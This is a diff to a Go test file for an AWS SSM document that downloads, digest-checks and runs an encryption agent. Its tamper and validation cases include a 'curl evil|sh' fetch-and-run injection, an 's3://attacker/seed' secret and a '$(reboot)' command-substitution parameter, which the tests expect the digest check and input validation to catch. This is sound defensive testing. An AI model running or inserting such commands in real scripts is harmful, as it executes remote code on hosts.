@@ -1,6 +1,8 @@
 package document
 
 import (
+	"bytes"
+	"compress/gzip"
 	"crypto/sha256"
 	"encoding/hex"
 	"encoding/json"
@@ -12,17 +14,21 @@ import (
 	"os/exec"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
+	ssmtypes "github.com/aws/aws-sdk-go-v2/service/ssm/types"
+
 	"github.com/storecrypt/storecrypt/internal/contract"
+	"github.com/storecrypt/storecrypt/internal/fakeaws"
 	"github.com/storecrypt/storecrypt/internal/golden"
 )
 
-var artifacts = []Artifact{
-	{Arch: "arm64", URL: "https://bucket.s3.us-east-1.amazonaws.com/arm", SHA256: strings.Repeat("b", 64)},
-	{Arch: "amd64", URL: "https://bucket.s3.us-east-1.amazonaws.com/amd", SHA256: strings.Repeat("a", 64)},
-}
+var agents = Agents{URLPrefix: "https://bucket.s3.us-east-1.amazonaws.com/storecrypt-agent-0123-", Each: []Agent{
+	{Arch: "arm64", SHA256: strings.Repeat("b", 64), GzSHA256: strings.Repeat("d", 64)},
+	{Arch: "amd64", SHA256: strings.Repeat("a", 64), GzSHA256: strings.Repeat("c", 64)},
+}}
 
 func defaults() contract.AgentOptions {
 	o := contract.DefaultAgentOptions()
@@ -103,8 +109,11 @@ func agentAccepts(name, value string) error {
 }
 
 func TestDefaultsAreValid(t *testing.T) {
-	content := Content(defaults(), artifacts)
+	content := Content(defaults(), agents)
 	params := content["parameters"].(map[string]any)
+	if len(params) != len(contract.DocumentParameters)+1 {
+		t.Errorf("%d parameters, want the agent's %d and %s", len(params), len(contract.DocumentParameters), ArchitectureParameter)
+	}
 	for _, p := range contract.DocumentParameters {
 		spec := params[p.Name].(map[string]any)
 		if spec["interpolationType"] != "ENV_VAR" || spec["description"] == "" {
@@ -118,9 +127,9 @@ func TestDefaultsAreValid(t *testing.T) {
 
 // TestScriptReadsOnlyEnvironment: parameters reach the agent only as SSM_<name>
 // variables; the only {{name}} in the text is each variable's fallback for agents older
-// than 3.3.2746.0, assigned only when the variable is unset.
+// than 3.3.2746.0, assigned only when the variable is unset, and the architecture check.
 func TestScriptReadsOnlyEnvironment(t *testing.T) {
-	script := strings.Join(Script(artifacts), "\n")
+	script := strings.Join(Script(agents.Each), "\n")
 	for _, p := range contract.DocumentParameters {
 		if !strings.Contains(script, `--`+p.Flag+`="$SSM_`+p.Name+`"`) {
 			t.Errorf("the script does not pass $SSM_%s quoted to --%s", p.Name, p.Flag)
@@ -130,12 +139,12 @@ func TestScriptReadsOnlyEnvironment(t *testing.T) {
 			t.Errorf("%s: want exactly the fallback %q", p.Name, fallback)
 		}
 	}
-	if n := strings.Count(script, "{{"); n != len(contract.DocumentParameters) {
-		t.Errorf("%d {{ in the script, want one per parameter", n)
+	if n, arch := strings.Count(script, "{{"), strings.Count(script, "{{ "+ArchitectureParameter+" }}"); n != len(contract.DocumentParameters)+arch || arch != 2 {
+		t.Errorf("%d {{ in the script, want one per parameter and the architecture check's two", n)
 	}
-	for _, a := range artifacts {
-		if !strings.Contains(script, a.SHA256) {
-			t.Errorf("the script does not check the %s digest", a.Arch)
+	for _, a := range agents.Each {
+		if !strings.Contains(script, a.SHA256) || !strings.Contains(script, a.GzSHA256) {
+			t.Errorf("the script does not check the %s digests", a.Arch)
 		}
 	}
 }
@@ -198,7 +207,7 @@ func TestFallbackIsOneWord(t *testing.T) {
 }
 
 func TestDigest(t *testing.T) {
-	content := Content(defaults(), artifacts)
+	content := Content(defaults(), agents)
 	want, err := Digest(content)
 	if err != nil {
 		t.Fatal(err)
@@ -211,7 +220,7 @@ func TestDigest(t *testing.T) {
 		t.Fatalf("the deployed content: %v", err)
 	}
 	// The values CloudFormation fills in at deploy time do not change the digest.
-	other := []Artifact{{Arch: "amd64", URL: "https://other/amd", SHA256: artifacts[1].SHA256}, {Arch: "arm64", URL: "https://other/arm", SHA256: artifacts[0].SHA256}}
+	other := Agents{URLPrefix: "https://other/agent-", Each: agents.Each}
 	if got, _ := Digest(Content(defaults(), other)); got != want {
 		t.Errorf("the asset URLs changed the digest")
 	}
@@ -222,7 +231,9 @@ func TestDigest(t *testing.T) {
 		secret string
 	}{
 		{"another script", func(c string) string { return strings.Replace(c, "set -eu", "set -eu; curl evil|sh", 1) }, defaults().KMSKeyID, ""},
-		{"another agent digest", func(c string) string { return strings.ReplaceAll(c, artifacts[1].SHA256, strings.Repeat("c", 64)) }, defaults().KMSKeyID, ""},
+		{"another agent digest", func(c string) string { return strings.ReplaceAll(c, agents.Each[1].SHA256, strings.Repeat("e", 64)) }, defaults().KMSKeyID, ""},
+		{"another download digest", func(c string) string { return strings.ReplaceAll(c, agents.Each[1].GzSHA256, strings.Repeat("e", 64)) }, defaults().KMSKeyID, ""},
+		{"another architecture", func(c string) string { return strings.Replace(c, `"arm64"]`, `"arm64","s390x"]`, 1) }, defaults().KMSKeyID, ""},
 		{"a looser pattern", func(c string) string { return strings.Replace(c, `^(true|false)$`, `.*`, 1) }, defaults().KMSKeyID, ""},
 		{"another default key", func(c string) string { return c }, "arn:aws:kms:us-east-1:444455556666:key/x", ""},
 		{"a default secret", func(c string) string { return c }, defaults().KMSKeyID, "s3://attacker/seed"},
@@ -237,61 +248,174 @@ func TestDigest(t *testing.T) {
 }
 
 func TestGolden(t *testing.T) {
-	got, err := json.MarshalIndent(Content(defaults(), artifacts), "", "  ")
+	got, err := json.MarshalIndent(Content(defaults(), agents), "", "  ")
 	if err != nil {
 		t.Fatal(err)
 	}
 	golden.Check(t, "document.json", append(got, '\n'))
 }
 
-// TestScriptRunsTheMatchingAgent runs the step's script with sh over a download directory
-// that holds an older agent beside the current one, as aws:downloadContent leaves it after
-// an upgrade: the one whose digest the document names runs, from a private copy that is
-// gone afterwards; the stale one is removed; the agent's exit code is the step's.
-func TestScriptRunsTheMatchingAgent(t *testing.T) {
-	dir := t.TempDir()
-	downloads, private, stubs := filepath.Join(dir, "agent"), filepath.Join(dir, "run"), filepath.Join(dir, "bin")
-	current := "#!/bin/sh\necho \"ran $0 $1\"\nexit 3\n"
-	sum := sha256.Sum256([]byte(current))
-	var arts []Artifact
-	for _, arch := range []string{"amd64", "arm64"} {
-		arts = append(arts, Artifact{Arch: arch, URL: "https://b/" + arch, SHA256: hex.EncodeToString(sum[:])})
-		// find lists in directory order: both orders are tried by naming the stale one
-		// before and after the current one.
-		writeFile(t, filepath.Join(downloads, arch, "0-old"), "#!/bin/sh\necho ran the old agent\n")
-		writeFile(t, filepath.Join(downloads, arch, "5-current"), current)
-		writeFile(t, filepath.Join(downloads, arch, "9-old"), "#!/bin/sh\necho ran the old agent\n")
+// hostArch is this machine's GOARCH, as the script's uname -m case maps it.
+func hostArch(t *testing.T) string {
+	t.Helper()
+	arch, ok := map[string]string{"x86_64": "amd64", "aarch64": "arm64"}[strings.TrimSpace(run(t, "uname", "-m"))]
+	if !ok {
+		t.Fatal("no agent for this machine's architecture")
 	}
-	for _, tool := range []string{"cryptsetup", "mdadm", "blkid", "mkfs.ext4", "mkfs.xfs"} {
-		writeFile(t, filepath.Join(stubs, tool), "#!/bin/sh\n")
-	}
-	if err := os.MkdirAll(private, 0o755); err != nil {
+	return arch
+}
+
+func gzipped(t *testing.T, data string) []byte {
+	t.Helper()
+	var b bytes.Buffer
+	zw := gzip.NewWriter(&b)
+	if _, err := zw.Write([]byte(data)); err != nil {
 		t.Fatal(err)
 	}
-	script := strings.Join(Script(arts), "\n")
-	script = strings.ReplaceAll(script, Dir, downloads)
-	script = strings.ReplaceAll(script, "/run/storecrypt-agent.", private+"/storecrypt-agent.")
-	cmd := exec.Command("sh", "-c", script)
-	cmd.Env = append(os.Environ(), "PATH="+stubs+":"+os.Getenv("PATH"))
-	var stdout, stderr strings.Builder
-	cmd.Stdout, cmd.Stderr = &stdout, &stderr
-	err := cmd.Run()
-	var exit *exec.ExitError
-	if !errors.As(err, &exit) || exit.ExitCode() != 3 {
-		t.Fatalf("the step ended with %v, want the agent's exit 3\n%s", err, stderr.String())
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
 	}
-	if !regexp.MustCompile(`^ran ` + regexp.QuoteMeta(private) + `/storecrypt-agent\.[^/]+/storecrypt-agent apply\n$`).MatchString(stdout.String()) {
-		t.Errorf("stdout %q: want the current agent, run from a private copy", stdout.String())
+	return b.Bytes()
+}
+
+func hexSum(data []byte) string {
+	sum := sha256.Sum256(data)
+	return hex.EncodeToString(sum[:])
+}
+
+// TestScriptRunsTheMatchingAgent runs the run step, as the SSM Agent model renders it for
+// this machine (fakeaws.PlanCommand), with sh over a download directory that holds older
+// agents beside the current one, as aws:downloadContent leaves it after an upgrade: the
+// one whose digests the document names runs, decompressed into a private copy that is gone
+// afterwards; the stale ones are removed; the agent's exit code is the step's. A command
+// for the other architecture, or a download that decompresses to another binary, stops
+// before the agent runs.
+func TestScriptRunsTheMatchingAgent(t *testing.T) {
+	const current = "#!/bin/sh\necho \"ran $0 $1\"\nexit 3\n"
+	arch := hostArch(t)
+	other := map[string]string{"amd64": "arm64", "arm64": "amd64"}[arch]
+	for _, tc := range []struct {
+		name     string
+		arch     string // the command's Architecture
+		binary   string // what the current download decompresses to
+		code     int
+		stdout   string // a pattern
+		stderr   string
+		leftOver []string
+	}{
+		{"the current agent", arch, current, 3, `^ran \S+/storecrypt-agent\.[^/]+/storecrypt-agent apply\n$`, "removing the stale download", []string{"5-current.gz"}},
+		{"the other architecture", other, current, 2, `^$`, "run it again with Architecture=" + arch, []string{"0-old.gz", "5-current.gz", "9-old.gz"}},
+		{"a download of another binary", arch, "#!/bin/sh\necho evil\n", 1, `^$`, "decompresses to a binary whose SHA-256 is not", []string{"5-current.gz"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := t.TempDir()
+			downloads, private, stubs := filepath.Join(dir, "agent"), filepath.Join(dir, "run"), filepath.Join(dir, "bin")
+			gz := gzipped(t, tc.binary)
+			each := []Agent{{Arch: "amd64", SHA256: hexSum([]byte(current)), GzSHA256: hexSum(gz)}, {Arch: "arm64", SHA256: hexSum([]byte(current)), GzSHA256: hexSum(gz)}}
+			// find lists in directory order: both orders are tried by naming the stale
+			// ones before and after the current one.
+			writeFile(t, filepath.Join(downloads, "0-old.gz"), string(gzipped(t, "#!/bin/sh\necho ran the old agent\n")))
+			writeFile(t, filepath.Join(downloads, "5-current.gz"), string(gz))
+			writeFile(t, filepath.Join(downloads, "9-old.gz"), string(gzipped(t, "#!/bin/sh\necho ran another old agent\n")))
+			for _, tool := range []string{"cryptsetup", "mdadm", "blkid", "mkfs.ext4", "mkfs.xfs"} {
+				writeFile(t, filepath.Join(stubs, tool), "#!/bin/sh\n")
+			}
+			if err := os.MkdirAll(private, 0o755); err != nil {
+				t.Fatal(err)
+			}
+			content, err := json.Marshal(Content(defaults(), Agents{URLPrefix: "https://b/agent-", Each: each}))
+			if err != nil {
+				t.Fatal(err)
+			}
+			plan, err := fakeaws.PlanCommand(string(content), map[string][]string{ArchitectureParameter: {tc.arch}}, "Linux")
+			if err != nil {
+				t.Fatal(err)
+			}
+			step := plan.Steps[len(plan.Steps)-1]
+			var script strings.Builder
+			for _, line := range step.Inputs["runCommand"].([]any) {
+				script.WriteString(line.(string) + "\n")
+			}
+			text := strings.ReplaceAll(script.String(), Dir, downloads)
+			text = strings.ReplaceAll(text, "/run/storecrypt-agent.", private+"/storecrypt-agent.")
+			cmd := exec.Command("sh", "-c", text)
+			cmd.Env = append(append(os.Environ(), plan.Env...), "PATH="+stubs+":"+os.Getenv("PATH"))
+			var stdout, stderr strings.Builder
+			cmd.Stdout, cmd.Stderr = &stdout, &stderr
+			err = cmd.Run()
+			var exit *exec.ExitError
+			if !errors.As(err, &exit) || exit.ExitCode() != tc.code {
+				t.Fatalf("the step ended with %v, want exit %d\n%s", err, tc.code, stderr.String())
+			}
+			if !regexp.MustCompile(tc.stdout).MatchString(stdout.String()) {
+				t.Errorf("stdout %q, want %s", stdout.String(), tc.stdout)
+			}
+			if tc.code == 3 && !strings.Contains(stdout.String(), private+"/") {
+				t.Errorf("stdout %q: the agent did not run from a private copy", stdout.String())
+			}
+			if left, _ := filepath.Glob(filepath.Join(private, "*")); len(left) != 0 {
+				t.Errorf("the private copy is left behind: %v", left)
+			}
+			var left []string
+			entries, _ := os.ReadDir(downloads)
+			for _, e := range entries {
+				left = append(left, e.Name())
+			}
+			if !slices.Equal(left, tc.leftOver) {
+				t.Errorf("downloads left: %v, want %v", left, tc.leftOver)
+			}
+			if !strings.Contains(stderr.String(), tc.stderr) {
+				t.Errorf("stderr does not say %q:\n%s", tc.stderr, stderr.String())
+			}
+		})
 	}
-	if left, _ := filepath.Glob(filepath.Join(private, "*")); len(left) != 0 {
-		t.Errorf("the private copy is left behind: %v", left)
+}
+
+// TestOneDownloadForTheInstance runs the document through the SSM Agent model: on Linux,
+// one download step fetches only the object of the command's Architecture; on Windows
+// (a console rerun by tag can reach one) every step is skipped; SendCommand refuses an
+// architecture storecrypt has no agent for, and a command that names none.
+func TestOneDownloadForTheInstance(t *testing.T) {
+	content, err := json.Marshal(Content(defaults(), agents))
+	if err != nil {
+		t.Fatal(err)
 	}
-	arch := map[string]string{"x86_64": "amd64", "aarch64": "arm64"}[strings.TrimSpace(run(t, "uname", "-m"))]
-	if left, _ := filepath.Glob(filepath.Join(downloads, arch, "*")); len(left) != 1 || filepath.Base(left[0]) != "5-current" {
-		t.Errorf("downloads left: %v, want only the current agent", left)
+	for _, arch := range Architectures {
+		plan, err := fakeaws.PlanCommand(string(content), map[string][]string{ArchitectureParameter: {arch}}, "Linux")
+		if err != nil {
+			t.Fatal(err)
+		}
+		var downloads []string
+		for _, s := range plan.Steps {
+			if s.Skipped != "" {
+				t.Errorf("%s: step %s skipped on Linux: %s", arch, s.Name, s.Skipped)
+			}
+			if s.Action == "aws:downloadContent" {
+				var src struct{ Path string }
+				if err := json.Unmarshal([]byte(s.Inputs["sourceInfo"].(string)), &src); err != nil {
+					t.Fatal(err)
+				}
+				downloads = append(downloads, src.Path)
+			}
+		}
+		if want := []string{agents.URL(arch)}; !slices.Equal(downloads, want) {
+			t.Errorf("%s: downloads %v, want %v", arch, downloads, want)
+		}
 	}
-	if !strings.Contains(stderr.String(), "removing the stale download") {
-		t.Errorf("stderr does not say what was removed:\n%s", stderr.String())
+	plan, err := fakeaws.PlanCommand(string(content), map[string][]string{ArchitectureParameter: {"amd64"}}, "Windows")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, s := range plan.Steps {
+		if s.Skipped == "" {
+			t.Errorf("step %s runs on Windows", s.Name)
+		}
+	}
+	for _, given := range []map[string][]string{{ArchitectureParameter: {"x86_64"}}, {ArchitectureParameter: {"$(reboot)"}}, {}} {
+		var invalid *ssmtypes.InvalidParameters
+		if _, err := fakeaws.PlanCommand(string(content), given, "Linux"); !errors.As(err, &invalid) {
+			t.Errorf("%v: got %v, want InvalidParameters", given, err)
+		}
 	}
 }
 
